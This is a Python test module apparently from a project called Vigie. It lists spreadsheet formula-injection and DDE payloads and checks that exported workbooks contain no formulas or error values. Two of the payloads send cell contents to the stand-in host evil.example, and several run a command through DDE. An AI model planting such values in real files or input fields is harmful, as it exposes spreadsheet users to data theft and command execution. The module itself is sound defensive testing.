"""Hostile strings and checks for the spreadsheets Vigie writes (tests/core/test_spreadsheets.py and each export's
tests)."""

from __future__ import annotations

import io
import zipfile

import openpyxl

# What an attacker types into a name that ends up in a spreadsheet (OWASP « CSV injection », DDE payloads).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "#N/A",
    "#DIV/0!",
]


def workbook_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    """Every cell of the first sheet, re-read by openpyxl as a spreadsheet program would (formulas not computed)."""
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()]


def assert_no_formula(content: bytes) -> None:
    """No cell of the file is a formula or an error value, as openpyxl reads it and in the XML itself."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml, name
    for row in workbook_cells(content):
        for cell in row:
            assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
